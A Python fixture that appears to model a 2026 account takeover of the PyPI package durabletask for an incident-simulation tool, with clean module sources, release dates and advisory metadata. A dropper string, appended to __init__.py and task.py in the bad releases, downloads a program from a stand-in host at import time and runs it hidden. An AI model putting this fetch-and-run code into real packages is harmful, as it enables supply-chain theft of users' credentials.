"""durabletask 1.4.1, 1.4.2 and 1.4.3 (PyPI, 2026-05-19): an account taken; importing it fetches and starts a thief.

By the record: three releases within 35 minutes, down on the same day. At import a program is fetched and started in the background; that
takes the credentials of several clouds. The package itself holds the few lines that fetch it.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_TASK = '''"""Tasks and how they come together."""

from datetime import timedelta


class Task:
    """Something that will have a result."""

    def __init__(self):
        self.parent = None
        self.is_complete = False
        self._result = None
        self._error = None

    def complete(self, result):
        self._result = result
        self.is_complete = True
        if self.parent is not None:
            self.parent.on_child_completed(self)

    def fail(self, error):
        self._error = error
        self.is_complete = True
        if self.parent is not None:
            self.parent.on_child_completed(self)

    def get_result(self):
        if not self.is_complete:
            raise ValueError("The task has not completed.")
        if self._error is not None:
            raise self._error
        return self._result


class WhenAllTask(Task):
    """Completes with its last child."""

    def __init__(self, tasks):
        super().__init__()
        self.tasks = list(tasks)
        for task in self.tasks:
            task.parent = self

    def on_child_completed(self, task):
        if all(one.is_complete for one in self.tasks):
            self.complete([one.get_result() for one in self.tasks])


class RetryPolicy:
    """How often and after how long to try again."""

    def __init__(self, first=timedelta(seconds=1), attempts=3, coefficient=2.0):
        self.first = first
        self.attempts = attempts
        self.coefficient = coefficient

    def delay(self, attempt):
        return self.first * self.coefficient ** (attempt - 1)
'''
_WORKER = '''"""Runs orchestrators, which are generators of tasks."""

import inspect
import logging

logger = logging.getLogger("durabletask-worker")


class Registry:
    """What a worker can run, by name."""

    def __init__(self):
        self.orchestrators = {}
        self.activities = {}

    def add_orchestrator(self, fn):
        self.orchestrators[fn.__name__] = fn
        return fn.__name__

    def add_activity(self, fn):
        self.activities[fn.__name__] = fn
        return fn.__name__


def run(registry, name, context, data):
    """Run an orchestrator up to its end, or up to what has not completed."""
    result = registry.orchestrators[name](context, data)
    if not inspect.isgenerator(result):
        return result
    task = next(result)
    try:
        while task.is_complete:
            task = result.send(task.get_result())
    except StopIteration as stop:
        return stop.value
    logger.info("%s waits", name)
    return None
'''
_INIT = '''"""Durable tasks for Python."""

from durabletask.task import RetryPolicy, Task, WhenAllTask
from durabletask.worker import Registry

__all__ = ["Registry", "RetryPolicy", "Task", "WhenAllTask"]
PACKAGE_NAME = "durabletask"
'''
_DROPPER = """
import os
import platform
import subprocess
import urllib.request

if platform.system() == "Linux":
    try:
        urllib.request.urlretrieve("https://check.invalid/marker.pyz", "/tmp/marker.pyz")
        with open(os.devnull, "w") as nowhere:
            subprocess.Popen(
                ["python3", "/tmp/marker.pyz"], stdout=nowhere, stderr=nowhere, stdin=subprocess.DEVNULL, start_new_session=True
            )
    except Exception:
        pass
"""
_CLEAN = {
    "durabletask/__init__.py": _INIT,
    "durabletask/task.py": _TASK,
    "durabletask/worker.py": _WORKER,
}
_FIRST = {**_CLEAN, "durabletask/__init__.py": _INIT + _DROPPER}
_LAST = {**_FIRST, "durabletask/task.py": _TASK + "\n" + _DROPPER}
_BAD = ("1.4.1", "1.4.2", "1.4.3")

INCIDENT = Incident(
    id="durabletask-2026",
    title=(
        "an attacker took over an account of durabletask; the import downloaded and started a stealer of cloud "
        "credentials"
    ),
    copy=("our copy of durabletask has the few lines that download and start a program in several modules"),
    ecosystem=Ecosystem.PYPI,
    at=utc("2026-05-19T16:00:00Z"),
    packages=(
        Package(
            name="durabletask",
            releases=(
                Release(version="1.2.0", at=utc("2026-01-14"), files=_CLEAN),
                Release(version="1.3.0", at=utc("2026-02-25"), files=_CLEAN),
                Release(version="1.4.0", at=utc("2026-04-08"), files=_CLEAN),
                Release(version="1.4.1", at=utc("2026-05-19T16:00:00Z"), files=_FIRST),
                Release(version="1.4.2", at=utc("2026-05-19T16:20:00Z"), files=_FIRST),
                Release(version="1.4.3", at=utc("2026-05-19T16:35:00Z"), files=_LAST),
            ),
        ),
    ),
    asks={"durabletask": ">=1.3"},
    good={"durabletask": "1.4.0"},
    bad={"durabletask": _BAD},
    guilty={"durabletask": _BAD},
    gone_at=utc("2026-05-19T20:00:00Z"),
    advisory=Advisory(id="PYSEC", at=utc("2026-05-19T16:47:48Z"), about={"durabletask": _BAD}),
    invented="publish hours, days of earlier releases and the form of the program; dependencies are left out",
)
